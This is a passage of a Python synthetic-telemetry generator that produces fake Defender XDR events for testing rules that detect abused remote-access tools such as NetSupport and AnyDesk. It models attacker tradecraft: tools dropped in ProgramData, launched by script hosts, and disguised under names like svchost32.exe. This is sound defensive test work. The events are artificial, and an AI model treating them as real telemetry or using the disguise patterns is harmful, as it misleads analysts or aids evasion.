"""A synthetic Defender XDR stream: realistic events of three tables in the streaming API envelope.

Deterministic from a seed (and the clock it is given). What it produces:

* a device population (``<dept>-<kind>-<nnn>.corp.example``, 40-hex DeviceIds) whose
  events are a realistic mix of three Advanced Hunting tables, in proportions of the
  config: ``DeviceProcessEvents`` (Windows system processes, browsers, Office, developer
  tools, with their real company names, paths, parents and command lines; records of
  about 1.5 KB), ``DeviceNetworkEvents`` (those processes' connections to the sites they
  really use, internal servers, failed and inbound connections) and
  ``DeviceFileCertificateInfo`` (their files' signatures: signers, issuers, Microsoft
  roots, unsigned tools);
* NetSupport launches at a chosen ratio on a small set of devices, as stories: abuse
  (``client32.exe`` dropped under ProgramData or a user profile, started by PowerShell,
  wscript or cmd), legitimate installs, and one benign story per bundled exclusion;
* decoys that contain "netsupport" but do not match ``has 'netsupport'``
  (``NetSupportive Health``, ``MyNetSupport``), so the prefilter and the matcher disagree;
* other RMM tools (:data:`RMM_TOOLS`: AnyDesk, TeamViewer, ScreenConnect, Atera, Splashtop,
  ...; their public company names, signers and domains) at a chosen ratio on a small set of
  devices, as stories in each table (:data:`RMM_STORIES`): a launch from a download folder
  or from Program Files; the agent's connections to the vendor's relays, a browser visiting
  the vendor's site, an unsigned copy reaching the relays; the vendor-signed file, the same
  signer on a certificate Windows no longer trusts, an unsigned copy;
* near misses for each table (:data:`NEAR_MISS_STORIES`): a vendor name inside a longer term
  (``MyAnyDesk Tools``, ``AnyDeskSoft Ltd``, ``myanydesk.com.example``), which pass the
  byte prefilter and match no ``has``, and a lookalike domain under the vendor's
  (``anydesk.com.<x>.example``), which a ``RemoteUrl has 'anydesk.com'`` does match;
* optional duplicates (exact re-sends), late events (older than the window), future-dated
  events, records of a table rmmwatch does not read, and malformed messages.

Every story is counted (:class:`GeneratorStats`), so a test can compare what a rule finds
with what was generated. Timestamps trail the clock by Defender's export delay (1.4 to 6.7
minutes, as public samples show) and carry 7 fractional digits.
"""

from __future__ import annotations

import itertools
import random
from abc import ABC, abstractmethod
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import orjson

from rmmwatch.kql.datetimes import TICKS_PER_DAY, TICKS_PER_MINUTE, TICKS_PER_SECOND, format_datetime
from rmmwatch.model import Clock, wall_clock

CATEGORY = "AdvancedHunting-DeviceProcessEvents"
NETWORK_CATEGORY = "AdvancedHunting-DeviceNetworkEvents"
CERTIFICATE_CATEGORY = "AdvancedHunting-DeviceFileCertificateInfo"
#: Records of a table no rule can read (``other_table_ratio``).
OTHER_CATEGORY = "AdvancedHunting-DeviceRegistryEvents"
NETSUPPORT_COMPANIES = ("NetSupport Ltd", "NetSupport Ltd.", "NETSUPPORT LTD.", "NetSupport Ltd")
DECOY_COMPANIES = ("NetSupportive Health Systems", "MyNetSupport Inc", "NetSupportCare GmbH")

# (file name, folder, company, product, description, original name, typical parents, command line)
_CATALOG: tuple[tuple[str, str, str, str, str, str, tuple[str, ...], str], ...] = (
    (
        "svchost.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Host Process for Windows Services",
        "svchost.exe",
        ("services.exe",),
        "svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        "conhost.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Console Window Host",
        "CONHOST.EXE",
        ("cmd.exe", "powershell.exe"),
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        "RuntimeBroker.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Runtime Broker",
        "RuntimeBroker.exe",
        ("svchost.exe",),
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    ),
    (
        "taskhostw.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Host Process for Windows Tasks",
        "taskhostw.exe",
        ("svchost.exe",),
        "taskhostw.exe Install $(Arg0)",
    ),
    (
        "SearchProtocolHost.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Microsoft Windows Search Protocol Host",
        "SearchProtocolHost.exe",
        ("SearchIndexer.exe",),
        r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe5_ Global\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 "Software\Microsoft\Windows Search"',
    ),
    (
        "MsMpEng.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Antimalware Service Executable",
        "MsMpEng.exe",
        ("services.exe",),
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
    ),
    (
        "chrome.exe",
        r"C:\Program Files\Google\Chrome\Application",
        "Google LLC",
        "Google Chrome",
        "Google Chrome",
        "chrome.exe",
        ("explorer.exe", "chrome.exe"),
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=2036,i,8811,1 /prefetch:1',
    ),
    (
        "msedge.exe",
        r"C:\Program Files (x86)\Microsoft\Edge\Application",
        "Microsoft Corporation",
        "Microsoft Edge",
        "Microsoft Edge",
        "msedge.exe",
        ("explorer.exe", "msedge.exe"),
        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService',
    ),
    (
        "firefox.exe",
        r"C:\Program Files\Mozilla Firefox",
        "Mozilla Corporation",
        "Firefox",
        "Firefox",
        "firefox.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc --channel=1820 -childID 5',
    ),
    (
        "WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "Microsoft Corporation",
        "Microsoft Office",
        "Microsoft Word",
        "WinWord.exe",
        ("explorer.exe", "OUTLOOK.EXE"),
        '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Q3 budget.docx" /o ""',
    ),
    (
        "EXCEL.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "Microsoft Corporation",
        "Microsoft Office",
        "Microsoft Excel",
        "Excel.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\{user}\\Downloads\\invoice_2291.xlsx"',
    ),
    (
        "OUTLOOK.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "Microsoft Corporation",
        "Microsoft Outlook",
        "Microsoft Outlook",
        "Outlook.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
    ),
    (
        "ms-teams.exe",
        r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe",
        "Microsoft Corporation",
        "Microsoft Teams",
        "Microsoft Teams",
        "ms-teams.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe" msteams:system-initiated',
    ),
    (
        "Code.exe",
        r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code",
        "Microsoft Corporation",
        "Visual Studio Code",
        "Visual Studio Code",
        "electron.exe",
        ("explorer.exe", "Code.exe"),
        '"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService',
    ),
    (
        "git.exe",
        r"C:\Program Files\Git\cmd",
        "The Git Development Community",
        "Git",
        "Git for Windows",
        "git.exe",
        ("Code.exe", "cmd.exe"),
        "git.exe fetch --no-tags --prune origin",
    ),
    (
        "python.exe",
        r"C:\Users\{user}\AppData\Local\Programs\Python\Python312",
        "Python Software Foundation",
        "Python",
        "Python",
        "python.exe",
        ("cmd.exe", "Code.exe"),
        "python.exe -m pytest tests -q",
    ),
    (
        "node.exe",
        r"C:\Program Files\nodejs",
        "Node.js",
        "Node.js",
        "Node.js JavaScript Runtime",
        "node.exe",
        ("Code.exe", "cmd.exe"),
        '"C:\\Program Files\\nodejs\\node.exe" node_modules\\vite\\bin\\vite.js build',
    ),
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Windows PowerShell",
        "PowerShell.EXE",
        ("explorer.exe", "cmd.exe", "svchost.exe"),
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\IT\\inventory.ps1",
    ),
    (
        "cmd.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Windows Command Processor",
        "Cmd.Exe",
        ("explorer.exe",),
        'cmd.exe /c "dir /s /b C:\\Users\\{user}\\Desktop"',
    ),
    (
        "OneDrive.exe",
        r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive",
        "Microsoft Corporation",
        "Microsoft OneDrive",
        "Microsoft OneDrive",
        "OneDrive.exe",
        ("explorer.exe",),
        '"OneDrive.exe" /background',
    ),
    (
        "Zoom.exe",
        r"C:\Users\{user}\AppData\Roaming\Zoom\bin",
        "Zoom Video Communications, Inc.",
        "Zoom Meetings",
        "Zoom Meetings",
        "Zoom.exe",
        ("explorer.exe",),
        '"C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" "--url=zoommtg://zoom.us/join?confno=81234567890"',
    ),
    (
        "vmtoolsd.exe",
        r"C:\Program Files\VMware\VMware Tools",
        "VMware, Inc.",
        "VMware Tools",
        "VMware Tools Core Service",
        "vmtoolsd.exe",
        ("services.exe",),
        '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"',
    ),
    (
        "7zFM.exe",
        r"C:\Program Files\7-Zip",
        "Igor Pavlov",
        "7-Zip",
        "7-Zip File Manager",
        "7zFM.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\7-Zip\\7zFM.exe" "C:\\Users\\{user}\\Downloads\\logs.7z"',
    ),
)


@dataclass(frozen=True, slots=True)
class RmmTool:
    """An RMM tool as Defender sees it (public facts: version info, code-signing subject, domains)."""

    name: str
    #: The vendor's name as rules look for it (``has``): in company, product or signer.
    key: str
    company: str
    product: str
    files: tuple[str, ...]
    folder: str
    signer: str
    issuer: str
    #: The vendor's registrable domain; the agent connects to ``<host>.<domain>``.
    domain: str
    hosts: tuple[str, ...]
    port: int


_DIGICERT_G4 = "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1"
_SECTIGO = "Sectigo Public Code Signing CA R36"

RMM_TOOLS: tuple[RmmTool, ...] = (
    RmmTool("AnyDesk", "AnyDesk", "AnyDesk Software GmbH", "AnyDesk", ("AnyDesk.exe",),
            r"C:\Program Files (x86)\AnyDesk", "AnyDesk Software GmbH", _DIGICERT_G4, "anydesk.com",
            ("boot.net", "relay-{n}.net", "api"), 6568),
    RmmTool("TeamViewer", "TeamViewer", "TeamViewer Germany GmbH", "TeamViewer",
            ("TeamViewer.exe", "TeamViewer_Service.exe"), r"C:\Program Files\TeamViewer", "TeamViewer Germany GmbH",
            "DigiCert SHA2 Assured ID Code Signing CA", "teamviewer.com", ("router{n}", "master{n}", "client"), 5938),
    RmmTool("ScreenConnect", "ScreenConnect", "ConnectWise, LLC", "ScreenConnect",
            ("ScreenConnect.ClientService.exe", "ScreenConnect.WindowsClient.exe"),
            r"C:\Program Files (x86)\ScreenConnect Client (3f2a7c1d9e8b6a54)", "ConnectWise, LLC", _DIGICERT_G4,
            "screenconnect.com", ("instance-{n}-relay", "control"), 8041),
    RmmTool("Atera", "Atera", "Atera networks", "AteraAgent", ("AteraAgent.exe",),
            r"C:\Program Files\ATERA Networks\AteraAgent", "Atera Networks Ltd", _DIGICERT_G4, "atera.com",
            ("agent-api", "pubsub", "ps"), 443),
    RmmTool("Splashtop", "Splashtop", "Splashtop Inc.", "Splashtop Streamer", ("SRService.exe", "SRManager.exe"),
            r"C:\Program Files (x86)\Splashtop\Splashtop Remote\Server", "Splashtop Inc.", _DIGICERT_G4,
            "splashtop.com", ("st2-v3-dc", "relay-{n}"), 443),
    RmmTool("SimpleHelp", "SimpleHelp", "SimpleHelp Ltd", "SimpleHelp Remote Access", ("Remote Access.exe",),
            r"C:\ProgramData\JWrapper-Remote Access", "SimpleHelp Ltd", _SECTIGO, "simple-help.com", ("www",), 443),
    RmmTool("Action1", "Action1", "Action1 Corporation", "Action1 Agent", ("action1_agent.exe",),
            r"C:\Windows\Action1", "Action1 Corporation", _DIGICERT_G4, "action1.com", ("server", "a1-backend"),
            443),
    RmmTool("RustDesk", "RustDesk", "Purslane Ltd", "RustDesk", ("rustdesk.exe",), r"C:\Program Files\RustDesk",
            "Purslane Ltd", _SECTIGO, "rustdesk.com", ("rs-ny", "rs-sg"), 21116),
    RmmTool("Zoho Assist", "Zoho", "Zoho Corporation Pvt. Ltd.", "Zoho Assist", ("ZA_Connect.exe", "ZohoURS.exe"),
            r"C:\Program Files (x86)\ZohoMeeting", "Zoho Corporation Private Limited", _DIGICERT_G4,
            "zohoassist.com", ("gateway", "downloads"), 443),
    RmmTool("LogMeIn", "LogMeIn", "LogMeIn, Inc.", "LogMeIn", ("LogMeIn.exe", "LMIGuardianSvc.exe"),
            r"C:\Program Files (x86)\LogMeIn\x64", "LogMeIn, Inc.", _DIGICERT_G4, "logmein.com",
            ("secure", "control"), 443),
    RmmTool("Remote Utilities", "Remote Utilities", "Remote Utilities LLC", "Remote Utilities - Host",
            ("rutserv.exe", "rfusclient.exe"), r"C:\Program Files (x86)\Remote Utilities - Host",
            "Remote Utilities LLC", _SECTIGO, "remoteutilities.com", ("id", "update"), 5655),
    RmmTool("AeroAdmin", "AeroAdmin", "AeroAdmin LLC", "AeroAdmin", ("AeroAdmin.exe",),
            r"C:\Users\{user}\Downloads", "AeroAdmin LLC", _SECTIGO, "aeroadmin.com", ("auth{n}", "www"), 5500),
    RmmTool("DWService", "DWSNET", "DWSNET O\u00dc", "DWAgent", ("dwagent.exe", "dwagsvc.exe"),
            r"C:\Program Files\DWAgent", "DWSNET O\u00dc", _SECTIGO, "dwservice.net", ("node{n}", "www"), 443),
    RmmTool("Kaseya", "Kaseya", "Kaseya Limited", "Kaseya Agent", ("AgentMon.exe",),
            r"C:\Program Files (x86)\Kaseya\KCORPX3", "Kaseya Limited", _DIGICERT_G4, "kaseya.net", ("vsa{n}",),
            5721),
    RmmTool("Syncro", "Syncro", "Servably, Inc.", "Syncro", ("Syncro.Service.Runner.exe",),
            r"C:\Program Files\RepairTech\Syncro", "Servably, Inc.", _SECTIGO, "syncromsp.com", ("rmm", "admin"), 443),
)  # fmt: skip

#: The stories of the RMM tools, per table, and whether each one carries the vendor's names:
#: process launches (``abuse``: from a download or temp folder, started by a script host;
#: ``sanctioned``: from Program Files, started by services.exe), network connections (``relay``:
#: the agent to the vendor's relays; ``browser-visit``: a browser to the vendor's site;
#: ``unsigned-copy``: a renamed copy, no version info, to the relays) and certificates
#: (``signed``: the vendor's signature; ``untrusted``: the vendor's signer on a certificate
#: Windows no longer trusts; ``unsigned-copy``: a copy without a signature).
RMM_STORIES: dict[str, tuple[str, ...]] = {
    "process": ("abuse", "sanctioned"),
    "network": ("relay", "browser-visit", "unsigned-copy"),
    "certificate": ("signed", "untrusted", "unsigned-copy"),
}
#: Near misses: the vendor's key inside a longer term (company, signer, domain), which no
#: ``has`` of the vendor's names matches, and a lookalike domain *under* the vendor's, which
#: ``RemoteUrl has '<domain>'`` does match (it is the vendor's domain followed by a dot).
NEAR_MISS_STORIES: dict[str, tuple[str, ...]] = {
    "process": ("longer-term-company",),
    "network": ("longer-term-domain", "lookalike-domain"),
    "certificate": ("lookalike-signer",),
}

# Background connections: (process, folder, company, product, remote URL, port, remote IP type).
_CONNECTIONS: tuple[tuple[str, str, str, str, str, int, str], ...] = (
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application", "Google LLC", "Google Chrome",
     "www.google.com", 443, "Public"),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application", "Google LLC", "Google Chrome",
     "clients2.google.com", 443, "Public"),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", "Microsoft Corporation", "Microsoft Edge",
     "www.bing.com", 443, "Public"),
    ("firefox.exe", r"C:\Program Files\Mozilla Firefox", "Mozilla Corporation", "Firefox",
     "push.services.mozilla.com", 443, "Public"),
    ("svchost.exe", r"C:\Windows\System32", "Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System",
     "settings-win.data.microsoft.com", 443, "Public"),
    ("svchost.exe", r"C:\Windows\System32", "Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System",
     "ctldl.windowsupdate.com", 80, "Public"),
    ("svchost.exe", r"C:\Windows\System32", "Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System",
     "", 53, "Private"),
    ("lsass.exe", r"C:\Windows\System32", "Microsoft Corporation", "Microsoft\u00ae Windows\u00ae Operating System",
     "dc01.corp.example", 88, "Private"),
    ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0", "Microsoft Corporation",
     "Microsoft\u00ae Windows\u00ae Operating System", "wdcp.microsoft.com", 443, "Public"),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", "Microsoft Corporation", "Microsoft Outlook",
     "outlook.office365.com", 443, "Public"),
    ("ms-teams.exe", r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe",
     "Microsoft Corporation", "Microsoft Teams", "teams.microsoft.com", 443, "Public"),
    ("OneDrive.exe", r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive", "Microsoft Corporation",
     "Microsoft OneDrive", "onedrive.live.com", 443, "Public"),
    ("Zoom.exe", r"C:\Users\{user}\AppData\Roaming\Zoom\bin", "Zoom Video Communications, Inc.", "Zoom Meetings",
     "zoom.us", 443, "Public"),
    ("git.exe", r"C:\Program Files\Git\cmd", "The Git Development Community", "Git", "github.com", 443, "Public"),
    ("python.exe", r"C:\Users\{user}\AppData\Local\Programs\Python\Python312", "Python Software Foundation",
     "Python", "files.pythonhosted.org", 443, "Public"),
    ("node.exe", r"C:\Program Files\nodejs", "Node.js", "Node.js", "registry.npmjs.org", 443, "Public"),
    ("Code.exe", r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code", "Microsoft Corporation",
     "Visual Studio Code", "marketplace.visualstudio.com", 443, "Public"),
    ("vmtoolsd.exe", r"C:\Program Files\VMware\VMware Tools", "VMware, Inc.", "VMware Tools", "", 902, "Private"),
)  # fmt: skip
_BROWSERS = _CONNECTIONS[:4]

# Background signatures: (signer, issuer, root is Microsoft); an empty signer is an unsigned file.
_SIGNATURES: tuple[tuple[str, str, bool], ...] = (
    ("Microsoft Windows", "Microsoft Windows Production PCA 2011", True),
    ("Microsoft Windows", "Microsoft Windows Production PCA 2011", True),
    ("Microsoft Corporation", "Microsoft Code Signing PCA 2011", True),
    ("Microsoft Corporation", "Microsoft Windows Code Signing PCA 2024", True),
    ("Google LLC", "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", False),
    ("Mozilla Corporation", "DigiCert SHA2 Assured ID Code Signing CA", False),
    ("Zoom Video Communications, Inc.", "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", False),
    ("Python Software Foundation", "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", False),
    ("VMware, Inc.", "DigiCert EV Code Signing CA (SHA2)", False),
    ("Johannes Schindelin", "Sectigo Public Code Signing CA R36", False),
    ("OpenJS Foundation", "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", False),
    ("", "", False),
)

#: Columns a compact record leaves out (session columns of 2024, unique ids, usually-null hashes).
_COMPACT_DROPS = (
    "SHA256",
    "MD5",
    "AccountObjectId",
    "LogonId",
    "ProcessTokenElevation",
    "InitiatingProcessFolderPath",
    "InitiatingProcessParentId",
    "AppGuardContainerId",
    "AdditionalFields",
    "InitiatingProcessSessionId",
    "CreatedProcessSessionId",
    "IsInitiatingProcessRemoteSession",
    "IsProcessRemoteSession",
    "ProcessUniqueId",
    "InitiatingProcessUniqueId",
    "MachineGroup",
)

_DEPARTMENTS = ("fin", "hr", "eng", "ops", "sales", "legal", "it", "mkt", "exec", "sup")
_KINDS = ("ws", "lt", "vdi", "srv")
_FIRST = (
    "jdoe",
    "asmith",
    "bchen",
    "mgarcia",
    "pnovak",
    "kito",
    "lmartin",
    "rpatel",
    "sokafor",
    "tnguyen",
    "vrossi",
    "ylee",
    "dkowalski",
    "hmuller",
    "ejohansson",
    "fsilva",
)


@dataclass(slots=True)
class GeneratorConfig:
    """What to generate. Ratios are per record except ``malformed_ratio`` (per message).

    NetSupport launches and their decoys (process events) are ``netsupport_ratio`` and
    ``decoy_ratio`` of all records; the other records are network events (``network_ratio``),
    certificate records (``certificate_ratio``) and process events (the rest), and within each
    table ``rmm_ratio`` of them are RMM stories and ``near_miss_ratio`` near misses.
    """

    seed: int = 1
    devices: int = 2000
    min_records: int = 1
    max_records: int = 50
    netsupport_ratio: float = 0.001
    netsupport_devices: int = 25
    decoy_ratio: float = 0.0005
    network_ratio: float = 0.3
    certificate_ratio: float = 0.1
    rmm_ratio: float = 0.001
    rmm_devices: int = 20
    near_miss_ratio: float = 0.0005
    duplicate_ratio: float = 0.0
    late_ratio: float = 0.0
    future_ratio: float = 0.0
    other_table_ratio: float = 0.0
    malformed_ratio: float = 0.0
    compact: bool = False  # leave out the newer and usually-null columns: records of about 1.5 KB
    min_delay_s: float = 84.0
    max_delay_s: float = 402.0
    window_ticks: int = 5 * TICKS_PER_DAY


@dataclass(slots=True)
class GeneratorStats:
    """What was generated so far (for load runs and checks)."""

    messages: int = 0
    records: int = 0
    netsupport: int = 0
    decoys: int = 0
    duplicates: int = 0
    late: int = 0
    future: int = 0
    other_table: int = 0
    malformed: int = 0
    #: NetSupport stories (abuse-programdata, legitimate-install, ...).
    stories: dict[str, int] = field(default_factory=dict)
    #: Records per table ("process", "network", "certificate"), duplicates included.
    tables: dict[str, int] = field(default_factory=dict)
    rmm: int = 0
    near_misses: int = 0
    #: RMM stories and near misses: (tool name, table, story) -> records.
    rmm_stories: dict[tuple[str, str, str], int] = field(default_factory=dict)


#: Columns a compact network or certificate record leaves out (as _COMPACT_DROPS for processes).
_COMPACT_NETWORK_DROPS = (
    "InitiatingProcessSHA256",
    "InitiatingProcessMD5",
    "InitiatingProcessAccountObjectId",
    "InitiatingProcessParentId",
    "AppGuardContainerId",
    "AdditionalFields",
    "InitiatingProcessSessionId",
    "IsInitiatingProcessRemoteSession",
    "InitiatingProcessRemoteSessionDeviceName",
    "InitiatingProcessRemoteSessionIP",
    "InitiatingProcessUniqueId",
    "LogonID",
    "MachineGroup",
)
_COMPACT_CERTIFICATE_DROPS = ("CrlDistributionPointUrls", "CertificateCountersignatureTime", "MachineGroup")
#: Script hosts and droppers that start an abused RMM tool.
_DROPPERS = ("powershell.exe", "cmd.exe", "wscript.exe", "mshta.exe", "explorer.exe")
#: Names a renamed portable copy goes by.
_DISGUISES = ("update.exe", "svchost32.exe", "msupdate.exe", "helper.exe", "winlogon64.exe")


class _Rows(ABC):
    """The records of one table: base rows made up front (its pool), each record a copy on a device.

    A base row draws most of a record's random values (hashes, versions, parents), so a record
    costs a dict copy and a few draws. The tables draw from the generator's one random sequence
    and share one sequence of ReportIds: the stream stays deterministic for a seed.
    """

    #: The catalog the pool is made of, and how many base rows each entry gives.
    entries: tuple[tuple[Any, ...], ...] = ()
    copies = 32
    #: Columns a compact record leaves out.
    compact_drops: tuple[str, ...] = ()

    def __init__(self, rnd: random.Random, report_ids: Iterator[int], *, compact: bool) -> None:
        self.random = rnd
        self._report_ids = report_ids
        self.pool = [self._base(entry) for entry in self.entries for _ in range(self.copies)]
        if compact:
            for base in self.pool:
                for key in self.compact_drops:
                    base.pop(key, None)

    @abstractmethod
    def _base(self, entry: tuple[Any, ...]) -> dict[str, Any]:
        """A base row: a record of ``entry`` without its device, user and times."""

    def row(self, device: dict[str, str], ticks: int) -> dict[str, Any]:
        """A record on ``device`` at ``ticks``: a copy of a base row, with the next ReportId."""
        row = dict(self.random.choice(self.pool))
        row["Timestamp"] = format_datetime(ticks)
        row["DeviceId"] = device["DeviceId"]
        row["DeviceName"] = device["DeviceName"]
        row["ReportId"] = next(self._report_ids)
        return row

    @abstractmethod
    def rmm(self, row: dict[str, Any], tool: RmmTool, device: dict[str, str], story: str) -> None:
        """Turn a record into one of ``tool``'s stories of this table (:data:`RMM_STORIES`)."""

    @abstractmethod
    def near_miss(self, row: dict[str, Any], tool: RmmTool) -> str:
        """Put ``tool``'s key inside a longer term (or under a lookalike domain); returns the story."""

    def _hex(self, bits: int) -> str:
        return f"{self.random.getrandbits(bits):0{bits // 4}x}"


class _ProcessRows(_Rows):
    """DeviceProcessEvents: the catalog's process launches, NetSupport's stories, RMM launches."""

    entries = _CATALOG
    copies = 64
    compact_drops = _COMPACT_DROPS

    def _base(self, entry: tuple[Any, ...]) -> dict[str, Any]:
        """A process launch without its device, user and times."""
        rnd = self.random
        file_name, folder, company, product, description, original, parents, command = entry
        parent = rnd.choice(parents)
        return {
            "Timestamp": None,
            "DeviceId": None,
            "DeviceName": None,
            "ActionType": "ProcessCreated",
            "FileName": file_name,
            "FolderPath": f"{folder}\\{file_name}",
            "SHA1": f"{rnd.getrandbits(160):040x}",
            "SHA256": None,
            "MD5": None,
            "FileSize": rnd.randrange(20_000, 4_000_000),
            "ProcessVersionInfoCompanyName": company,
            "ProcessVersionInfoProductName": product,
            "ProcessVersionInfoProductVersion": f"{rnd.randrange(1, 30)}.{rnd.randrange(0, 10)}.{rnd.randrange(0, 9999)}",
            "ProcessVersionInfoInternalFileName": original.rsplit(".", 1)[0],
            "ProcessVersionInfoOriginalFileName": original,
            "ProcessVersionInfoFileDescription": description,
            "ProcessId": None,
            "ProcessCommandLine": command,
            "ProcessIntegrityLevel": rnd.choice(("Medium", "High", "System")),
            "ProcessTokenElevation": rnd.choice(("TokenElevationTypeDefault", "TokenElevationTypeLimited")),
            "ProcessCreationTime": None,
            "AccountDomain": "corp",
            "AccountName": None,
            "AccountSid": None,
            "AccountUpn": None,
            "AccountObjectId": None,
            "LogonId": rnd.randrange(100_000, 9_999_999),
            "InitiatingProcessAccountDomain": "corp",
            "InitiatingProcessAccountName": None,
            "InitiatingProcessFileName": parent,
            "InitiatingProcessFolderPath": f"c:\\windows\\system32\\{parent.lower()}",
            "InitiatingProcessCommandLine": parent,
            "InitiatingProcessId": rnd.randrange(4, 65_000, 4),
            "InitiatingProcessParentFileName": rnd.choice(
                ("explorer.exe", "services.exe", "wininit.exe", "userinit.exe")
            ),
            "InitiatingProcessParentId": rnd.randrange(4, 65_000, 4),
            "InitiatingProcessSignerType": "OsVendor",
            "InitiatingProcessSignatureStatus": "Valid",
            "ReportId": None,
            "AppGuardContainerId": "",
            "AdditionalFields": None,
            "InitiatingProcessSessionId": rnd.randrange(0, 4),
            "CreatedProcessSessionId": rnd.randrange(0, 4),
            "IsInitiatingProcessRemoteSession": False,
            "IsProcessRemoteSession": False,
            "ProcessUniqueId": str(rnd.getrandbits(40)),
            "InitiatingProcessUniqueId": str(rnd.getrandbits(40)),
            "MachineGroup": None,
        }

    def row(self, device: dict[str, str], ticks: int) -> dict[str, Any]:
        """A process launch on ``device`` at ``ticks``: a pooled base row, personalised."""
        rnd = self.random
        row = super().row(device, ticks)
        user = device["user"]
        row["ProcessId"] = rnd.randrange(4, 65_000, 4)
        row["ProcessCreationTime"] = format_datetime(ticks - rnd.randrange(TICKS_PER_SECOND))
        row["AccountName"] = user
        row["InitiatingProcessAccountName"] = user
        row["AccountSid"] = device["sid"]
        row["AccountUpn"] = f"{user}@corp.example"
        if "{user}" in row["FolderPath"] or "{user}" in row["ProcessCommandLine"]:
            row["FolderPath"] = row["FolderPath"].replace("{user}", user)
            row["ProcessCommandLine"] = row["ProcessCommandLine"].replace("{user}", user)
        return row

    def netsupport(self, row: dict[str, Any], device: dict[str, str]) -> str:
        """Turn a row into a NetSupport launch; returns the story's name."""
        rnd = self.random
        user = device["user"]
        row["ProcessVersionInfoCompanyName"] = rnd.choice(NETSUPPORT_COMPANIES)
        row["ProcessVersionInfoProductName"] = "NetSupport Remote Control"
        row["ProcessVersionInfoFileDescription"] = "NetSupport Client Application"
        component = rnd.choices(("client32.exe", "pcictlui.exe", "pcicfgui.exe", "remcmdstub.exe"), (8, 1, 1, 1))[0]
        row["FileName"] = component
        row["ProcessVersionInfoOriginalFileName"] = component
        row["ProcessVersionInfoInternalFileName"] = component.rsplit(".", 1)[0]
        story = rnd.choices(
            (
                "abuse-programdata",
                "abuse-userprofile",
                "legitimate-install",
                "schtasks",
                "it-support",
                "group-policy",
                "monitoring",
                "task-scheduler",
            ),
            (30, 25, 15, 6, 6, 6, 6, 6),
        )[0]
        legit = r"C:\Program Files (x86)\NetSupport\NetSupport Manager"
        if story == "abuse-programdata":
            folder = f"C:\\ProgramData\\{rnd.choice(('SecurityCheck_v1', 'MSUpdate', 'WinCache', 'Adobe_Sync'))}"
            row["InitiatingProcessFileName"] = rnd.choice(("powershell.exe", "wscript.exe", "cmd.exe"))
            row["ProcessCommandLine"] = f'"{folder}\\{component}" '
            row["InitiatingProcessCommandLine"] = (
